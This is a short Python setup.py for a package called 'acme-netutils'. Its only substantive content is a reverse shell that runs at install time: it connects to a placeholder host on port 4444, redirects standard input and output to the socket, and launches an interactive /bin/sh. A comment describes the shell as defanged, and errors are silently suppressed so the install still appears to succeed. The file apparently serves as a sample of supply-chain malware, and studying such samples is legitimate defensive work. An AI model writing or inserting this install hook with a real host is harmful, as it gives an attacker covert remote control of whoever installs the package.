import os
import socket
import subprocess
from setuptools import setup

# Defanged: example.invalid does not resolve, so connect() fails.
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("example.invalid", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    subprocess.call(["/bin/sh", "-i"])
except OSError:
    pass

setup(name="acme-netutils", version="0.0.1", packages=[])
